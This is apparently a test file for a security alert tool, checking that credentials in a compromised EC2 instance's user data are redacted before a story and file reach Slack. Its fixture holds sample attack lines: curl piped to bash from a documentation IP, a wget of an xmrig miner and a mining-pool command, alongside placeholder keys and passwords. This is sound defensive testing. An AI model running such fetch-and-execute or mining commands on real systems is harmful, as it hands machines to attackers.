import { FakeAws } from '../support/fake-aws';
import { fixture, startHarness, tearDownAfterEach, waitFor, type Harness } from '../support/harness';
import { textOf, threadReplies } from '../support/slack-user';

const INSTANCE = 'i-0a1b2c3d4e5f60718';
const SECRETS = {
  secretKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  dbPassword: 'hunter2-Pg',
  mongoPassword: 'S3cr3t!Mongo',
  bearer: 'abcdefghijklmnopqrstuvwxyz123456',
  slackToken: 'xoxb-1234567890-abcdefghijkl',
  pem: 'MIIEowIBAAKCAQEA7privatekeybody',
  jsonPassword: 'p@ss w0rd',
};
// Every secret sits on a line the miner indicators flag, so it would be shown in the thread.
const USER_DATA = [
  '#!/bin/bash',
  `curl -s -H "Authorization: Bearer ${SECRETS.bearer}" http://203.0.113.50/install.sh | bash`,
  `AWS_SECRET_ACCESS_KEY=${SECRETS.secretKey} nohup /tmp/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 &`,
  `curl -s http://203.0.113.50/x | DB=postgres://app:${SECRETS.dbPassword}@db.internal:5432/app bash`,
  `wget -q "mongodb+srv://admin:${SECRETS.mongoPassword}@cluster0.example.net/x" -O /tmp/.x/xmrig`,
  `curl -s http://203.0.113.50/y | SLACK=${SECRETS.slackToken} sh`,
  `echo '{"password": "${SECRETS.jsonPassword}"}' > /tmp/.x/cfg.json`,
  '-----BEGIN RSA PRIVATE KEY-----',
  SECRETS.pem,
  '-----END RSA PRIVATE KEY-----',
  ...Array.from({ length: 20 }, (_, i) => `echo step ${i}`),
].join('\n');

function account(): FakeAws {
  const aws = new FakeAws();
  aws.account = '123456789012';
  aws.addWebServer(INSTANCE);
  Object.assign(aws.instances.get(INSTANCE)!, { userData: USER_DATA });
  return aws;
}

async function story(h: Harness) {
  expect((await h.postEvents(fixture('guardduty-crypto-dns'))).status).toBe(202);
  const card = await waitFor(() => h.slack.channelMessages('C02CRIT')[0], 'the alert card');
  const msg = await waitFor(() => threadReplies(h, card.channel, card.ts).find((m) => textOf(m).includes('The story of')), 'the story');
  return { card, text: textOf(msg) };
}

describe('secrets in user data are redacted before Slack sees them', () => {
  let h: Harness;
  let aws: FakeAws;
  tearDownAfterEach(() => ({ h, aws }));

  it('shows the suspicious lines and uploads the file without keys, passwords, tokens, private keys or connection-string passwords', async () => {
    aws = account();
    h = await startHarness({ file: { story: { enabled: true }, aws: { maxAttempts: 1 } } });
    const { card, text } = await story(h);
    expect(text).toContain('xmrig');
    expect(text).toContain('[redacted]');
    const file = await waitFor(() => [...h.slack.files.values()].find((f) => f.thread_ts === card.ts && f.content), 'the user-data file');
    expect(file.content).toContain('stratum+tcp://pool.minexmr.com:4444');
    expect(file.content).toContain('postgres://app:[redacted]@db.internal:5432/app');
    for (const secret of Object.values(SECRETS)) {
      expect(text).not.toContain(secret);
      expect(file.content).not.toContain(secret);
    }
  });

  it('uploads no user-data file when story.uploadUserData is off', async () => {
    aws = account();
    h = await startHarness({ file: { story: { enabled: true, uploadUserData: false }, aws: { maxAttempts: 1 } } });
    await story(h);
    // The story is posted before any upload would start; give a stray upload time to show up.
    await new Promise((r) => setTimeout(r, 300));
    expect(h.slack.callsOf('files.getUploadURLExternal')).toEqual([]);
  });
});
